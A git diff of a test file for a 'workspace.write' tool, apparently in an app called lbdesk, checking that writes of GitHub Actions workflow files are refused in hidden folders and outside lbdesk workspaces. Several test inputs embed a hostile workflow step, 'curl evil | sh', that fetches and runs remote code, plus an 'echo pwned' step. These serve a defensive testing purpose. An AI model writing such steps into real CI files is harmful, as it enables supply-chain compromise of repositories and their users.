@@ -109,10 +109,14 @@ describe('workspace.write', () => {
     expect(readFileSync(k8s, 'utf8')).toBe(before);
     const workflow = join(tmp.dir, 'repo', '.github', 'workflows', 'ci.yml');
     mkdirSync(dirname(workflow), { recursive: true });
-    expectRefused(await call('workspace.write', { path: workflow, text: 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n' }), /is not an lbdesk workspace/);
-    // A job named lbdesk is not the format key.
-    expectRefused(await call('workspace.write', { path: workflow, text: 'on: push\njobs:\n  lbdesk:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo pwned\n' }), /is not an lbdesk workspace/);
+    // In a hidden folder: refused whatever the text.
+    expectRefused(await call('workspace.write', { path: workflow, text: 'lbdesk: 1\non: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n' }), /hidden folder/);
     expect(existsSync(workflow)).toBe(false);
+    const plain = join(tmp.dir, 'repo', 'ci.yml');
+    expectRefused(await call('workspace.write', { path: plain, text: 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n' }), /is not an lbdesk workspace/);
+    // A job named lbdesk is not the format key.
+    expectRefused(await call('workspace.write', { path: plain, text: 'on: push\njobs:\n  lbdesk:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo pwned\n' }), /is not an lbdesk workspace/);
+    expect(existsSync(plain)).toBe(false);
   });
 
   it('writes a new absolute workspace file', async () => {
